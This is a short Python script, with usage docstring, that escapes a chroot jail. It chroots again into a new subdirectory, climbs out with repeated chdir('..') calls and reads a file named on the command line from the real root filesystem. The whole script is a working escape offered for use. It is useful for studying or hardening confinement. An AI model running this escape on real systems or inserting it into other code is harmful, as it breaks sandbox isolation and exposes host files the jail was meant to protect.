"""The way out of a chroot that chroot(2) describes itself: "mkdir foo; chroot foo; cd ..".

    escape.py FILE          look for FILE outside of where this program's root seems to end

chroot(2) moves the root of a process and leaves its working directory where it is. Whoever may call it a
second time, in a directory below, stands outside of the new root, and no root stops his "..". It prints what
became of it.
"""

from __future__ import annotations

import os
import sys

# More steps up than any path has; ".." in a root is the root itself.
FAR_UP = 64


def second_root() -> str:
    """Put the root below the working directory; give what the kernel said to that."""
    try:
        os.makedirs("below", exist_ok=True)
        os.chroot("below")
    except OSError as error:
        return f"chroot again: {os.strerror(error.errno or 0)}"
    return "chroot again: done"


def escape(path: str) -> None:
    """Walk up out of the root, as far as it goes, and read the file from there."""
    print(second_root())
    for _ in range(FAR_UP):
        os.chdir("..")
    try:
        with open(path.lstrip("/")) as file:
            print(f"outside: {file.read().strip()}")
    except OSError as error:
        print(f"outside: {os.strerror(error.errno or 0)}")


if __name__ == "__main__":
    escape(sys.argv[1])
